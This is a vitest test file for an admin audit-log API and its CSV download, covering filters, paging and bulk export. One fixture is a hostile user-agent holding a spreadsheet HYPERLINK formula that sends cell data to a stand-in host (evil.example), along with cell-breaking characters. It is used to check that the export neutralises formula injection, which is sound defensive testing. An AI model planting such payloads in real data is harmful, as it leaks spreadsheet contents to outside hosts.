import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { register, strongPassword, uniqueName } from "../support/accounts.js";
import { adminSession } from "../support/admin.js";
import { appOn, type TestApp } from "../support/app.js";
import { testDialects } from "../support/dialects.js";
import { call, expectError, type Json, send } from "../support/http.js";

/*
 * The audit view and its CSV download (SPEC §2 "GET /api/admin/audit?user=&type=&since=&until=&page=&limit=, and
 * format=csv"). Attack: CSV injection — a user agent (anyone picks theirs) written so a spreadsheet opening the
 * export runs it as a formula, or breaks out of its cell with a quote, comma or line break.
 */

/** RFC 4180 rows: quoted fields with "" for a quote, CRLF between rows. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted && c === '"' && text[i + 1] === '"') {
      field += '"';
      i++;
    } else if (quoted && c === '"') quoted = false;
    else if (quoted) field += c;
    else if (c === '"') quoted = true;
    else if (c === ",") {
      row.push(field);
      field = "";
    } else if (c === "\r" && text[i + 1] === "\n") {
      row.push(field);
      rows.push(row);
      row = [];
      field = "";
      i++;
    } else field += c;
  }
  return rows;
}

for (const dialect of testDialects()) {
  describe(`admin audit view and CSV [${dialect.name}]`, () => {
    let t: TestApp;
    beforeAll(async () => {
      t = await appOn(dialect);
    });
    afterAll(async () => t.close());

    const hostileAgent = '=HYPERLINK("http://evil.example/?"&A1,"open") ,\r\nsecond line';

    it("filters by user, type and time, pages with a total", async () => {
      const admin = await adminSession(t);
      const name = uniqueName("audited");
      const { userId } = await register(t.app, name);
      t.clock.advance(5);
      const before = new Date(t.clock.now()).toISOString();
      for (let i = 0; i < 3; i++)
        await call(t.app, "POST", "/api/auth/login", { body: { username: name, password: "wrong password!" } });
      const get = async (query: string): Promise<Json> =>
        (await call(t.app, "GET", `/api/admin/audit?${query}`, { token: admin.token })).body;
      expect(await get(`user=${name}&type=login_failed`)).toMatchObject({ total: 3 });
      expect(await get(`user=${userId}&type=login_failed&limit=2&page=2`)).toMatchObject({ total: 3, page: 2 });
      expect(((await get(`user=${userId}&type=login_failed&limit=2&page=2`))["events"] as Json[]).length).toBe(1);
      expect(await get(`user=${name}&until=${encodeURIComponent(before)}`)).toMatchObject({ total: 1 }); // register
      expect(await get(`user=${name}&since=${encodeURIComponent(before)}`)).toMatchObject({ total: 3 });
      expect(await get("user=nobody-at-all")).toMatchObject({ total: 0, events: [] });
      for (const bad of ["since=yesterday", "type=DROP TABLE", "format=xml", "page=-1"])
        expectError(
          await call(t.app, "GET", `/api/admin/audit?${bad}`, { token: admin.token }),
          422,
          "validation_failed",
        );
    });

    it("downloads every match as CSV, a header then one row each, with no formula a spreadsheet runs", async () => {
      const admin = await adminSession(t);
      const name = uniqueName("csv");
      await register(t.app, name);
      for (let i = 0; i < 3; i++)
        await send(t.app, {
          method: "POST",
          url: "/api/auth/login",
          payload: { username: name, password: `${strongPassword}!` },
          headers: { "user-agent": hostileAgent },
        });
      const res = await call(t.app, "GET", `/api/admin/audit?user=${name}&format=csv`, { token: admin.token });
      expect(res.status).toBe(200);
      expect(res.headers["content-type"]).toBe("text/csv; charset=utf-8");
      expect(res.headers["content-disposition"]).toMatch(/^attachment; filename="tessera-audit-\d{4}-\d\d-\d\d\.csv"$/);
      const rows = parseCsv(res.text);
      expect(rows[0]).toEqual([
        "time",
        "type",
        "user_id",
        "username",
        "actor_id",
        "actor_username",
        "ip",
        "user_agent",
        "detail",
      ]);
      expect(rows.length).toBe(1 + 4); // register and three failed logins
      for (const row of rows) expect(row).toHaveLength(9);
      const failed = rows.filter((row) => row[1] === "login_failed");
      expect(failed).toHaveLength(3);
      for (const row of failed) {
        expect(row[3]).toBe(name);
        expect(row[7]?.startsWith("'=")).toBe(true);
      }
      for (const row of rows.slice(1)) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@]/);
    });

    it("streams a large export in pages, every event once", async () => {
      const admin = await adminSession(t);
      const name = uniqueName("bulk");
      const { userId } = await register(t.app, name);
      const meta = { ip: "192.0.2.1", userAgent: "bulk" };
      for (let i = 0; i < 1203; i++) await t.app.services.audit.record({ type: "login_failed", userId, meta });
      const res = await call(t.app, "GET", `/api/admin/audit?user=${userId}&type=login_failed&format=csv`, {
        token: admin.token,
      });
      expect(parseCsv(res.text).length).toBe(1 + 1203);
    });
  });
}
